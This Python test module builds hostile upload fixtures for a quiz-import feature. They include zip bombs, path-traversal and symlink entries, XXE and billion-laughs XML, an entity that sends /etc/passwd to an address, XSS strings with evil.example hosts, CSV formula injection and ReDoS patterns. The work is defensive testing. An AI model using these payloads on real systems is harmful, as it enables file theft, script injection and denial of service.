"""Files that are made to do harm, or to be read for ever. Each is a name, a file name and its bytes."""

import stat
import struct
import zlib
from base64 import b64encode
from collections.abc import Callable, Iterator
from io import BytesIO
from typing import Final, NamedTuple
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZIP_STORED, ZipFile, ZipInfo

from tests.server.importing.h5p.packing import asked, question_set
from tests.server.importing.h5p.packing import packed as packed_h5p
from tests.server.importing.workbook import text, workbook
from tests.server.media.files import png

SECRET = "root:x:0:0"
"""What a file of this machine would say, if it were read."""
_MANIFEST = b'<manifest><resources><resource type="imsqti_item_xmlv2p1" href="i.xml"/></resources></manifest>'
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<object data='javascript:alert(1)'></object>",
    "<video><source onerror='alert(1)'></video>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
)


class Hostile(NamedTuple):
    """`is_refused`: nothing of it may be taken; otherwise it may be taken clean."""

    name: str
    file: str
    data: bytes
    is_refused: bool = False


def hostile_file(family: Callable[[], Iterator[Hostile]], name: str) -> Hostile:
    """One of them; those that come after it are not made."""
    return next(one for one in family() if one.name == name)


def packed(files: dict[str, bytes], compression: int = ZIP_DEFLATED) -> bytes:
    """A zip."""
    made = BytesIO()
    with ZipFile(made, "w", compression, compresslevel=1) as file:
        for name, data in files.items():
            file.writestr(name, data)
    return made.getvalue()


def packages() -> Iterator[Hostile]:
    item = _item("")
    good = {"imsmanifest.xml": _MANIFEST, "i.xml": item}
    for name in (
        *("../i.xml", "../../../../etc/passwd", "/etc/passwd", "a/../../i.xml", "..\\i.xml", "\\\\host\\share\\i.xml"),
        *("C:\\i.xml", "C:i.xml", "..", "a/../..", "/", "//i.xml", "..//..//i.xml"),
    ):
        # A name that is but a slash is a folder.
        yield Hostile(f"traversal {name}", "a.zip", packed({**good, name: b"x"}), name != "/")
    for name, target in (("link", "/etc/passwd"), ("i.xml", "../../secret"), ("folder/link", "..")):
        yield Hostile(f"symbolic link {name}", "a.zip", _linked({"imsmanifest.xml": _MANIFEST}, name, target), True)
    yield Hostile("one name twice", "a.zip", _twice("i.xml", "i.xml"), True)
    yield Hostile("one name in two cases", "a.zip", _twice("i.xml", "I.XML"), True)
    yield Hostile("one name by two ways", "a.zip", _twice("i.xml", "./i.xml"), True)
    yield Hostile("one name by a folder", "a.zip", _twice("i.xml", "a/../i.xml"), True)
    for compression, name in ((ZIP_BZIP2, "bzip2"), (ZIP_LZMA, "lzma")):
        yield Hostile(f"compressed by {name}", "a.zip", packed(good, compression), True)
    yield Hostile("encrypted", "a.zip", _with_flag(packed(good), 0x1), True)
    bomb = b"<manifest>" + bytes(66 * 1024**2)
    yield Hostile("bomb in the manifest", "a.zip", packed({"imsmanifest.xml": bomb}), True)
    yield Hostile("bomb as an item", "a.zip", packed({**good, "i.xml": bomb}), True)
    yield Hostile("bomb as an exam file", "a.zip", packed({"a.yaml": b"title: " + b"x" * 66 * 1024**2}), True)
    yield Hostile("bomb that says it is small", "a.zip", _lying(packed({**good, "i.xml": bomb})), True)
    spaced = item.replace(b"<p>", b"<p>" + b" " * 9_000_000)
    yield Hostile("many large items", "a.zip", _many({f"{at}.xml": spaced for at in range(3)}), False)
    inner = packed({"a": bytes(1_000_000)})
    for at in range(5):
        inner = packed({f"{at}-{number}.zip": inner for number in range(8)}, ZIP_STORED if at > 2 else ZIP_DEFLATED)
    yield Hostile("zips in zips", "a.zip", inner, True)
    yield Hostile("a zip as the manifest", "a.zip", packed({"imsmanifest.xml": inner}), True)
    yield Hostile("a zip as an item", "a.zip", packed({**good, "i.xml": inner}), True)
    yield Hostile("too many files", "a.zip", _crowded(6_000, ""), True)
    yield Hostile("far too many files", "a.zip", _crowded(12_000, ""), True)
    yield Hostile("far too many folders", "a.zip", _crowded(12_000, "/"), True)
    yield Hostile("nothing in it", "a.zip", packed({}), True)
    yield Hostile("cut off", "a.zip", packed(good)[:-30], True)
    yield Hostile("only its first bytes", "a.zip", b"PK\x03\x04" + bytes(30), True)
    yield Hostile("a directory of nonsense", "a.zip", packed(good)[:-22] + _end(0xFFFF, 0x7FFFFFFF, 0), True)
    yield Hostile("a directory of negative size", "a.zip", packed(good)[:-22] + _end(1, 0xFFFFFFFF, 0xFFFFFFFF), True)
    yield Hostile("its entries overlap", "a.zip", _overlapping(), True)
    yield Hostile("a wrong checksum", "a.zip", packed(good, ZIP_STORED).replace(b"<itemBody>", b"<itemBodY>", 1), True)
    yield Hostile("a name with NUL", "a.zip", packed({**good, "a\x00.xml": b""}))
    yield Hostile("a name that is no text", "a.zip", _with_flag(packed({"\xff\xfe": b""}), 0x800), True)
    yield Hostile("a name of 60,000 characters", "a.zip", packed({**good, "n" * 60_000: b""}))
    yield Hostile("two exam files", "a.zip", packed({"a.yaml": b"title: A", "b.yml": b"title: B"}), True)
    many = b"".join(b'<resource type="imsqti_item_xmlv2p1" href="i.xml"/>' for _ in range(2_000))
    yield Hostile(
        "one item many times", "a.zip", packed({**good, "imsmanifest.xml": b"<manifest>" + many + b"</manifest>"})
    )
    test = _test('<assessmentItemRef identifier="t" href="t.xml"/>')
    yield Hostile("a test that names itself", "a.zip", packed({"t.xml": test}), True)
    away = _test(
        "".join(
            f'<assessmentItemRef identifier="x{at}" href="{to}"/>'
            for at, to in enumerate(
                (
                    "file:///etc/passwd",
                    "http://127.0.0.1:1/i.xml",
                    "../../etc/passwd",
                    "/etc/passwd",
                    "%2e%2e/%2e%2e/etc/passwd",
                    "i.xml#" + "x" * 5_000,
                )
            )
        )
    )
    yield Hostile("items that are elsewhere", "a.zip", packed({"t.xml": away}), True)


def _workbooks() -> Iterator[Hostile]:
    head = [text("type"), text("prompt"), text("correct")]
    row = [text("true_false"), text("Is it so?"), text("true")]
    good = workbook({"A": [head, row]})
    for name, part in (
        ("a sheet", "xl/worksheets/0.xml"),
        ("the styles", "xl/styles.xml"),
        ("the shared texts", "xl/sharedStrings.xml"),
        ("the workbook", "xl/workbook.xml"),
        ("the relationships", "xl/_rels/workbook.xml.rels"),
    ):
        laughs = b'<!DOCTYPE a [<!ENTITY x "y"><!ENTITY z SYSTEM "file:///etc/passwd">]><a>&x;&z;</a>'
        yield Hostile(f"entities in {name} of a spreadsheet", "a.xlsx", _replaced(good, part, laughs), True)
        bomb = b"<a>" + bytes(66 * 1024**2)
        yield Hostile(f"bomb in {name} of a spreadsheet", "a.xlsx", _replaced(good, part, bomb), True)
    shared = '<c t="s"><v>0</v></c>'
    yield Hostile(
        "one text in all cells of a spreadsheet",
        "a.xlsx",
        workbook({"A": [head, *[[shared] * 3] * 1_000]}, shared=f"<si><t>{'x' * 9_000_000}</t></si>"),
        True,
    )
    for name, cell in (
        ("a column beyond all", '<c r="ZZZ9999999"><v>1</v></c>'),
        ("a text of number -1", '<c t="s"><v>-1</v></c>'),
        ("a text of a large number", f'<c t="s"><v>{"9" * 5_000}</v></c>'),
        ("a number of a large power", '<c r="C2"><v>1e999999999</v></c>'),
        ("a number of many digits", f'<c r="C2"><v>{"9" * 1_000_000}</v></c>'),
        ("a number that is none", '<c r="C2"><v>nan</v></c>'),
        ("a formula", '<c r="C2" t="str"><f>WEBSERVICE("http://127.0.0.1:1/")</f></c>'),
        ("a script", text("<script>alert(1)</script><img src=x onerror=alert(1)>")),
    ):
        rows = [head, [text("short_text"), text("So?"), cell]]
        yield Hostile(f"{name} in a spreadsheet", "a.xlsx", workbook({"A": rows}))
    for name, target in (("traversal", "../../../../etc/passwd"), ("an address", "http://127.0.0.1:1/a.xml")):
        related = f'<Relationships><Relationship Id="s0" Target="{target}"/></Relationships>'.encode()
        file = _replaced(good, "xl/_rels/workbook.xml.rels", related)
        yield Hostile(f"{name} in the relationships of a spreadsheet", "a.xlsx", file, True)
    listed = b"".join(b'<sheet name="A" r:id="s0"/>' for _ in range(3_000))
    opened = b'<workbook xmlns:r="r"><sheets>' + listed + b"</sheets></workbook>"
    yield Hostile("one sheet many times", "a.xlsx", _replaced(good, "xl/workbook.xml", opened))


def _replaced(data: bytes, part: str, inside: bytes) -> bytes:
    with ZipFile(BytesIO(data)) as file:
        parts = {name: file.read(name) for name in file.namelist()}
    return packed({**parts, part: inside})


def _h5p() -> Iterator[Hostile]:
    yield Hostile("deep JSON in H5P", "a.h5p", packed_h5p("QuestionSet", "[" * 1_000_000), True)
    yield Hostile("bomb in H5P", "a.h5p", packed_h5p("QuestionSet", '{"a":"' + "x" * 66 * 1024**2 + '"}'), True)
    inside = asked("TrueFalse", question="So?", correct="true")
    for _ in range(200):
        inside = asked("Column", content=[{"content": inside}])
    yield Hostile("columns in columns of H5P", "a.h5p", question_set(inside), True)
    many = asked("SingleChoiceSet", choices=[{"question": "So?", "answers": ["a", "b"]}] * 20_000)
    yield Hostile("many choices in H5P", "a.h5p", question_set(many), True)
    for name, path in (
        ("traversal", "../../../../etc/passwd"),
        ("an address", "http://127.0.0.1:1/a.png"),
        ("a file of this machine", "/etc/passwd"),
        ("a script", 'x" onerror="alert(1)'),
    ):
        image = {"library": "H5P.Image 1.1", "params": {"file": {"path": path}, "alt": '"><script>alert(1)</script>'}}
        shown = asked("TrueFalse", question="So?", correct="true", media={"type": image})
        yield Hostile(f"{name} as a picture of H5P", "a.h5p", question_set(shown))
    for name, text_ in (
        ("half a million asterisks", "*" * 500_000),
        ("many asterisks apart", "* " * 200_000),
        ("many words", "a " * 200_000),
        ("many marked words", "*a* " * 50_000),
        ("many bars", "*" + "/" * 500_000 + "*"),
        ("many backslashes", "*" + "\\" * 500_000 + ":*"),
        ("a script", "*<script>alert(1)</script>* <img src=x onerror=alert(1)> *a*"),
        (
            "a place of its own",
            '<pd-response id="1"></pd-response> *a* <pd-gap id="g1"></pd-gap> <pd-hot id="a">x</pd-hot>',
        ),
    ):
        yield Hostile(
            f"{name} in texts of H5P",
            "a.h5p",
            question_set(
                asked("Blanks", questions=[text_]),
                asked("DragText", textField=text_, distractors=text_),
                asked("MarkTheWords", textField=text_),
            ),
        )


def documents() -> Iterator[Hostile]:
    laughs = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 12))
    for name, subset, inside in (
        ("billion laughs", f'<!ENTITY l0 "ha">{laughs}', "&l11;"),
        ("quadratic growth", f'<!ENTITY l "{"x" * 50_000}">', "&l;" * 5_000),
        ("a file of the machine", '<!ENTITY f SYSTEM "file:///etc/passwd">', "&f;"),
        ("an address", '<!ENTITY f SYSTEM "http://127.0.0.1:1/">', "&f;"),
        ("a parameter from outside", '<!ENTITY % f SYSTEM "http://127.0.0.1:1/"> %f;', ""),
        (
            "a parameter that sends a file",
            (
                '<!ENTITY % f SYSTEM "file:///etc/passwd">'
                "<!ENTITY % g \"<!ENTITY h SYSTEM 'http://127.0.0.1:1/%f;'>\"> %g;"
            ),
            "&h;",
        ),
        ("an entity that is never used", '<!ENTITY f SYSTEM "file:///etc/passwd">', ""),
        ("an entity in an attribute", '<!ENTITY f "x">', '<a b="&f;"/>'),
        ("an unparsed entity", '<!NOTATION n SYSTEM "n"><!ENTITY f SYSTEM "file:///etc/passwd" NDATA n>', ""),
    ):
        yield Hostile(name, "a.xml", f"<!DOCTYPE quiz [{subset}]><quiz>{inside}</quiz>".encode(), True)
        item = f"<!DOCTYPE assessmentItem [{subset}]>".encode() + _item("").replace(b"<p>", f"<p>{inside}".encode())
        yield Hostile(f"{name}, in a package", "a.zip", packed({"imsmanifest.xml": _MANIFEST, "i.xml": item}), True)
    yield Hostile(
        "a document type elsewhere", "a.xml", b'<!DOCTYPE quiz SYSTEM "http://127.0.0.1:1/q.dtd">' + _moodle("x")
    )
    yield Hostile(
        "an attribute that has a default",
        "a.xml",
        b"<!DOCTYPE quiz [<!ATTLIST question type CDATA 'essay'>]>" + _moodle("x"),
    )
    yield Hostile(
        "XInclude",
        "a.xml",
        _moodle(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
            as_text=False,
        ),
    )
    yield Hostile("a stylesheet", "a.xml", b'<?xml-stylesheet href="file:///etc/passwd"?>' + _moodle("x"))
    yield Hostile("nested deeply", "a.xml", b"<quiz>" + b"<a>" * 100_000, True)
    yield Hostile("an attribute of 11 MB", "a.xml", b'<quiz a="' + b"x" * 11_000_000 + b'"/>', True)
    yield Hostile("a text of 11 MB", "a.xml", _moodle("x" * 11_000_000), True)
    for name, attribute in (("attributes", "a{0}='' "), ("namespaces", "xmlns:a{0}='{0}' ")):
        many = "".join(map(attribute.format, range(20_000)))
        yield Hostile(f"20,000 {name}", "a.xml", f"<quiz {many}/>".encode(), True)
    yield Hostile("a name of 40,000 characters", "a.xml", b"<" + b"q" * 40_000 + b"/>", True)
    yield Hostile("an endless comment", "a.xml", b"<quiz><!--" + b"-" * 1_000_000, True)
    yield Hostile("200,000 instructions", "a.xml", b"<quiz>" + b"<?a?>" * 200_000 + b"</quiz>", True)
    for encoding in ("UTF-7", "UTF-16", "UTF-32", "EBCDIC-CP-US", "no-such", "x" * 1_000, "UTF-8\x00"):
        yield Hostile(
            f"says it is {encoding[:20]}",
            "a.xml",
            f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + _moodle("+ADw-script+AD4-"),
        )
    for encoding in ("utf-7", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037"):
        said = '<?xml version="1.0"?>' + _moodle("<![CDATA[<script>alert(1)</script>]]>", as_text=False).decode()
        yield Hostile(f"is {encoding}", "a.xml", said.encode(encoding))
    yield Hostile("UTF-16 of nothing", "a.gift", b"\xff\xfe", True)
    yield Hostile("half of a character", "a.gift", b"\xff\xfe\x00\xd8", True)
    yield Hostile("no UTF-8", "a.gift", b"Q\xff{T}", True)
    yield Hostile("overlong UTF-8", "a.gift", b"\xc0\xbcscript>{T}", True)


def _scripts() -> Iterator[Hostile]:
    for script in _SCRIPTS:
        name = script[:30]
        yield Hostile(f"Moodle {name}", "a.xml", _moodle(script))
        yield Hostile(f"Moodle's Markdown {name}", "a.xml", _moodle(script, format_="markdown"))
        yield Hostile(f"GIFT {name}", "a.gift", b"Q [html]" + _escaped(script) + b"{T}")
        yield Hostile(f"YAML {name}", "a.yaml", _yaml(script))
        yield Hostile(
            f"a table {name}",
            "a.csv",
            f'type,prompt,correct\ntrue_false,"{script.replace(chr(34), chr(34) * 2)}",true\n'.encode(),
        )
    for formula in ("=cmd|'/c calc'!A1", "+1+1", "@SUM(A1)", "-2+3", '=HYPERLINK("https://evil.example/")'):
        yield Hostile(
            f"a table {formula}",
            "a.csv",
            f'type,prompt,correct\ntrue_false,"{formula.replace(chr(34), chr(34) * 2)}",true\n'.encode(),
        )


def markup() -> Iterator[Hostile]:
    for name, html in (
        ("lines that end", "<br>" * 40_000 + "x"),
        ("open elements", "<b>" * 60_000),
        ("links in links", "<a href='https://a.example'>" * 5_000),
        ("tables in tables", "<table><tr><td>" * 900),
        ("ampersands", "&" * 190_000),
        ("lists", "<li>" * 40_000),
        ("pictures that don't end", "<img " * 30_000),
        ("attributes", "<p " + " ".join(f"a{at}=x" for at in range(5_000)) + ">x</p>"),
        ("mathematics", "<math>" + "<mrow>" * 900 + "x"),
        ("gaps", '<pd-gap id="a"></pd-gap>' * 5_000),
        ("places", '<pd-response id="a"></pd-response>' * 5_000),
        ("files of ours", f'<img src="media:{"0" * 64}" alt="x">'),
    ):
        yield Hostile(f"markup: {name}", "a.xml", _moodle(html))
    for name, written in (
        ("brackets", "[" * 5_000),
        ("quotations", ">" * 20_000),
        ("stars", "*a **a " * 10_000),
        ("backticks", "`" * 9_999 + " " + "``" * 5_000),
        ("references", "[a]: x\n" * 1_000 + "[a]" * 1_000),
        ("fractions", "$" + r"\frac{1}{" * 3_000 + "x" + "}" * 3_000 + "$"),
        ("dollars", "$" * 20_001),
        ("braces", "$" + "{" * 10_000 + "}" * 10_000 + "$"),
        ("macros", r"$\def\a{\a\a}\a$"),
        ("includes", r"$\input{/etc/passwd}$"),
        ("links to scripts", "[x](javascript:alert(1)) ![x](data:text/html,x) <javascript:alert(1)>"),
        ("footnotes", "[^a]" * 3_000 + "\n\n[^a]: [^a]"),
        ("a table", "|" * 5_000 + "\n" + "|-" * 5_000 + "\n" + "|" * 5_000),
    ):
        yield Hostile(f"Markdown: {name}", "a.xml", _moodle(written, format_="markdown"))
    spaces = " " * 100_000
    for name, cloze in (
        ("spaces in a brace", "{" + spaces + "x"),
        ("spaces behind a number", "{1" + spaces + "x"),
        ("spaces behind a colon", "{1:" + spaces + "x"),
        ("answers", "{1:SA:" + "~=a" * 50_000 + "}"),
        ("places", "{1:SA:=a}" * 10_000),
        ("a share", "{1:SA:%" + "9" * 5_000 + "%a}"),
        ("numbers", "{1:NM:=" + "9" * 5_000 + ":" + "9" * 5_000 + "}"),
        ("braces", "{" * 100_000),
    ):
        yield Hostile(f"Cloze: {name}", "a.xml", _moodle(cloze, kind="cloze"))
    for kind in ("gapselect", "ddwtos"):
        many = "<dragbox><text>a</text></dragbox><selectoption><text>a</text></selectoption>" * 2_000
        yield Hostile(f"{kind}: gaps", "a.xml", _moodle("[[1]]" * 20_000, kind=kind, more=many))
        yield Hostile(f"{kind}: a far gap", "a.xml", _moodle("[[999]] [[0]]", kind=kind, more=many))
    files = "".join(f'<file name="{at}" encoding="base64">AAAA</file>' for at in range(500))
    yield Hostile("Moodle: 5,000 files", "a.xml", _moodle("@@PLUGINFILE@@/1" + "x" * 150_000, within=files))
    yield Hostile(
        "Moodle: no base64", "a.xml", _moodle("@@PLUGINFILE@@/1", within='<file name="1" encoding="base64">!!!</file>')
    )
    large = b64encode(bytes(7_000_000)).decode()
    yield Hostile(
        "Moodle: base64 of zeros",
        "a.xml",
        _moodle("@@PLUGINFILE@@/1", within=f'<file name="1" encoding="base64">{large}</file>'),
    )
    yield Hostile(
        "Moodle: base64 of spaces",
        "a.xml",
        _moodle("@@PLUGINFILE@@/1", within=f'<file name="1" encoding="base64">{"A " * 4_000_000}</file>'),
    )
    for at, value in enumerate(("NaN", "Infinity", "1e999999", "-1", "0", "9" * 5_000, "1e-999999")):
        graded = f"<defaultgrade>{value}</defaultgrade>"
        yield Hostile(f"Moodle: a grade {at}", "a.xml", _moodle("x", more=graded))
        answer = f'<answer fraction="{value}"><text>{value}</text><tolerance>{value}</tolerance></answer>'
        yield Hostile(f"Moodle: a number {at}", "a.xml", _moodle("x", kind="numerical", more=answer))
        yield Hostile(f"Moodle: a choice {at}", "a.xml", _moodle("x", kind="multichoice", more=answer * 3))
    answers = '<answer fraction="100"><text>a</text></answer>' * 2_000
    for kind in ("multichoice", "shortanswer", "numerical", "truefalse", "ordering"):
        yield Hostile(f"Moodle: 2,000 answers, {kind}", "a.xml", _moodle("x", kind=kind, more=answers))
    pairs = "<subquestion><text>a</text><answer><text>b</text></answer></subquestion>" * 5_000
    yield Hostile("Moodle: 5,000 pairs", "a.xml", _moodle("x", kind="matching", more=pairs))
    yield Hostile("Moodle: a kind of 100,000 characters", "a.xml", _moodle("x", kind="k" * 100_000), True)
    yield Hostile("Moodle: 2,000 questions", "a.xml", b"<quiz>" + _moodle("x")[6:-7] * 2_000 + b"</quiz>", True)
    refused = b"<question type='none'/>" * 6_000
    yield Hostile("Moodle: 6,000 that are refused", "a.xml", b"<quiz>" + refused + b"</quiz>", True)
    yield Hostile("Moodle: a name of 1 MB", "a.xml", _moodle("x", more=f"<idnumber>{'n' * 1_000_000}</idnumber>"))


_V = '<variable identifier="SCORE"/>'
_R = '<variable identifier="R"/>'
_ONE = '<baseValue baseType="float">3</baseValue>'


def _set(inside: str) -> str:
    return f'<setOutcomeValue identifier="SCORE">{inside}</setOutcomeValue>'


def _if(condition: str) -> str:
    return f"<responseCondition><responseIf>{condition}{_set(_ONE)}</responseIf></responseCondition>"


def processing() -> Iterator[Hostile]:
    null = f"<isNull>{_R}</isNull>"
    nested = f"<responseCondition><responseIf>{null}", "</responseIf></responseCondition>"
    other = f"<responseCondition><responseIf>{null}</responseIf><responseElse>", "</responseElse></responseCondition>"
    for name, rules in (
        ("sums in sums", _set("<sum>" * 230 + _ONE + "</sum>" * 230)),
        ("conditions in conditions", _if("<and>" * 230 + f"<not>{null}</not>" + "</and>" * 230)),
        ("rules in rules", nested[0] * 110 + _set(_ONE) + nested[1] * 110),
        ("rules behind rules", other[0] * 110 + _set(_ONE) + other[1] * 110),
        ("squares of squares", _set(_ONE) + _set(f"<product>{_V}{_V}</product>") * 60),
        ("powers of powers", _set(_ONE) + _set(f'<power>{_V}<baseValue baseType="integer">64</baseValue></power>') * 9),
        (
            "powers below zero",
            _set(_ONE) + _set(f'<power>{_V}<baseValue baseType="integer">-64</baseValue></power>') * 9,
        ),
        ("sums that double", _set(_ONE) + _set(f"<sum>{_V}{_V}</sum>") * 5_000),
        (
            "small divisors",
            _set(_ONE) + _set(f'<divide>{_V}<baseValue baseType="float">1e-99</baseValue></divide>') * 5_000,
        ),
        (
            "one large product",
            _set("<product>" + '<baseValue baseType="float">1e99</baseValue>' * 5_000 + "</product>"),
        ),
        ("a place of 5,000 digits", _set(f'<index n="000000001{"0" * 5_000}">{_R}</index>')),
        ("a number by chance", _set('<randomInteger min="0" max="99999999999"/>')),
        ("many tolerances", _if(f'<equal toleranceMode="absolute" tolerance="{"1 " * 50_000}">{_R}{_ONE}</equal>')),
        ("wide tolerances", _if(f'<equal toleranceMode="relative" tolerance="1e99 1e99">{_R}{_ONE}</equal>')),
        ("many figures", _if(f'<equalRounded figures="1e99">{_R}{_ONE}</equalRounded>')),
        ("nothing known", "<" + "q" * 40_000 + "/>"),
        ("5,000 rules", _set(_ONE) * 5_000),
        ("a template elsewhere", ""),
    ):
        yield Hostile(f"processing: {name}", "a.xml", _item(rules))
    for kind in ("multiple", "ordered"):
        more = (
            f'<outcomeDeclaration identifier="L" cardinality="{kind}" baseType="integer">'
            "<defaultValue><value>1</value></defaultValue></outcomeDeclaration>"
        )
        twice = f'<{kind}><variable identifier="L"/><variable identifier="L"/></{kind}>'
        yield Hostile(
            f"processing: lists that double, {kind}",
            "a.xml",
            _item(f'<setOutcomeValue identifier="L">{twice}</setOutcomeValue>' * 60, more),
        )
    for pattern in (".*" * 60 + "x", ".*a" * 60, "(a+)+$", "a{1,99999}", "[" * 100, "\\" * 99, "(?=a)", "." * 5_000):
        rules = _if(f'<patternMatch pattern="{pattern}">{_R}</patternMatch>')
        mapped = f'<mapping><mapEntry mapKey="{"a" * 500}" mappedValue="1"/></mapping>'
        yield Hostile(f"processing: the pattern {pattern[:9]}", "a.xml", _item(rules, base="string", mapped=mapped))


def _numbers() -> Iterator[Hostile]:
    for at, value in enumerate(
        ("1e99999999", "1e-99999999", "NaN", "Infinity", "9" * 5_000, "0." + "0" * 5_000 + "1", "")
    ):
        entry = f'<mapEntry mapKey="1" mappedValue="{value}"/>'
        mapped = f'<mapping defaultValue="{value}" lowerBound="{value}">{entry}</mapping>'
        yield Hostile(f"a mapping {at}", "a.xml", _item("", mapped=mapped))
        yield Hostile(f"a constant {at}", "a.xml", _item(_set(f'<baseValue baseType="float">{value}</baseValue>')))
        slider = f'<sliderInteraction responseIdentifier="R" lowerBound="0" upperBound="{value}" step="{value}"/>'
        yield Hostile(f"a scale {at}", "a.xml", _item("", body=slider))
        picture = f'<object data="a.png" type="image/png" width="{value}" height="{value}"/>'
        point = (
            f'<selectPointInteraction responseIdentifier="R" maxChoices="{value}">{picture}</selectPointInteraction>'
        )
        circle = f'<areaMapEntry shape="circle" coords="{value},{value},{value}" mappedValue="1"/>'
        area = f"<areaMapping>{circle}</areaMapping>"
        yield Hostile(f"a point {at}", "a.xml", _item("", base="point", body=point, mapped=area, correct="1 1"))
        yield Hostile(f"a time {at}", "a.xml", _test(f'<timeLimits maxTime="{value}"/><selection select="{value}"/>'))
        yield Hostile(f"Canvas {at}", "a.xml", _canvas(value))
    slider = '<sliderInteraction responseIdentifier="R" lowerBound="-1e99" upperBound="1e99" step="1e-99"/>'
    yield Hostile("a scale without an end", "a.xml", _item("", body=slider))
    choices = "".join(f'<simpleChoice identifier="c{at}">x</simpleChoice>' for at in range(5_000))
    for kind in ("choice", "order"):
        body = f'<{kind}Interaction responseIdentifier="R" maxChoices="0">{choices}</{kind}Interaction>'
        yield Hostile(f"5,000 options, {kind}", "a.xml", _item("", base="identifier", body=body, correct="c1"))
    side = "".join(
        f'<simpleAssociableChoice identifier="c{at}" matchMax="0">x</simpleAssociableChoice>' for at in range(2_000)
    )
    sides = f"<simpleMatchSet>{side}</simpleMatchSet>" * 2
    body = f'<matchInteraction responseIdentifier="R" maxAssociations="0">{sides}</matchInteraction>'
    yield Hostile("2,000 rows and columns", "a.xml", _item("", base="directedPair", body=body, correct="c1 c2"))
    body = '<p><textEntryInteraction responseIdentifier="R"/></p>' * 5_000
    yield Hostile("5,000 places", "a.xml", _item("", body=body))
    yield Hostile(
        "texts in texts",
        "a.xml",
        _item("", body="<div>" * 230 + '<p><textEntryInteraction responseIdentifier="R"/></p>' + "</div>" * 230),
    )
    yield Hostile(
        "sections in sections", "a.xml", _test("<assessmentSection>" * 230 + "</assessmentSection>" * 230), True
    )
    yield Hostile(
        "10,000 items elsewhere", "a.xml", _test('<assessmentItemRef identifier="a" href="a.xml"/>' * 10_000), True
    )
    yield Hostile(
        "an identifier of 9 MB",
        "a.xml",
        _item("").replace(b'identifier="i"', b'identifier="' + b"i" * 9_000_000 + b'"'),
    )
    lids = "".join(f'<response_str ident="b{at}"><render_fib/></response_str>' for at in range(20_000))
    yield Hostile(
        "Canvas: 20,000 blanks",
        "a.xml",
        _canvas("1").replace(b'<response_str ident="R"><render_fib/></response_str>', lids.encode()),
    )
    yield Hostile(
        "Canvas: materials in materials",
        "a.xml",
        _canvas("1").replace(b"<presentation>", b"<presentation>" + b"<flow>" * 200 + b"</flow>" * 200),
    )
    yield Hostile(
        "Canvas: conditions in conditions",
        "a.xml",
        _canvas("1")
        .replace(b'<varequal respident="R">', b"<not>" * 200 + b'<varequal respident="R">')
        .replace(b"</varequal>", b"</varequal>" + b"</not>" * 200),
    )
    yield Hostile(
        "Canvas: elements of HTML in a text", "a.xml", _canvas("1").replace(b"What?", b"<b>" * 200 + b"</b>" * 200)
    )
    yield Hostile(
        "Canvas: a score that grows",
        "a.xml",
        _canvas("1").replace(
            b"<setvar>1</setvar>",
            b'<setvar action="Add">1</setvar>' + b'<setvar action="Multiply">1e99</setvar>' * 5_000,
        ),
    )


def _gift() -> Iterator[Hostile]:
    for name, data in (
        ("answers", b"Q{" + b"=" * 500_000 + b"}"),
        ("options", b"Q{" + b"~a" * 100_000 + b"=b}"),
        ("questions", b"Q{T}\n\n" * 5_000),
        ("what is refused", b"{T}\n\n" * 6_000),
        ("braces", b"{" * 500_000),
        ("braces that stay open", b"}{\n\n" * 1_000),
        ("backslashes", b"\\" * 100_000 + b"{T}"),
        ("colons", b"::" + b"\\:" * 50_000 + b"{T}"),
        ("pairs", b"Q{" + b"=a -> b" * 50_000 + b"}"),
        ("a number", b"Q{#" + b"9" * 200_000 + b"}"),
        ("a margin", b"Q{#1:" + b"9" * 90 + b"}"),
        ("a range", b"Q{#-9e99..9e99}"),
        ("a weight", b"Q{=%" + b"9" * 5_000 + b"%x}"),
        ("an order of 5,000 digits", b"Q {>" + b"9" * 5_000 + b" VERT\na\nb\n}"),
        ("spaces", b"Q{T" + b" " * 200_000 + b"x}"),
        ("spaces behind a number", b"Q{#1" + b" " * 90 + b"x}"),
        ("ids", b"// [id:" * 100_000 + b"\nQ{T}"),
        ("tags", b"//" + b"[tag:a]" * 100_000 + b"\nQ{T}"),
        ("categories", b"$CATEGORY: " + b"a/" * 100_000 + b"\n\nQ{T}"),
        ("a comment", b"//" + b"x" * 1_000_000 + b"\nQ{T}"),
        ("comments", b"//\n" * 50_000 + b"Q{T}"),
        ("NUL", b"Q\x00{T}"),
    ):
        yield Hostile(f"GIFT: {name}", "a.gift", data)


def _texts() -> Iterator[Hostile]:
    yield Hostile("Aiken: an option in many lines", "a.txt", b"Q\nA. x\n" + b"b\n" * 200_000 + b"ANSWER: A\n")
    yield Hostile("Aiken: options", "a.txt", b"Q\n" + b"A. x\n" * 5_000 + b"ANSWER: A\n")
    yield Hostile("Aiken: questions", "a.txt", b"Q\nA. x\nB. y\nANSWER: A\n" * 20_000, True)
    yield Hostile("Aiken: spaces", "a.txt", b"Q\n" + b" " * 400_000 + b"x\nA. x\nB. y\nANSWER: A\n")
    head = b"type,prompt,correct\n"
    yield Hostile("a table: rows", "a.csv", head + b"true_false,x,true\n" * 50_000, True)
    yield Hostile("a table: rows that are refused", "a.csv", head + b"none,x,true\n" * 20_000, True)
    yield Hostile("a table: an open quotation mark", "a.csv", head + b'"' + b"a" * 1_000_000, True)
    yield Hostile("a table: columns", "a.csv", b"type,prompt" + b"," * 50_000, True)
    yield Hostile("a table: options", "a.csv", b"type,prompt,a,a\n", True)
    yield Hostile("a table: values", "a.csv", b"type,prompt,accepted\nshort_text,x," + b"|" * 100_000 + b"\n")
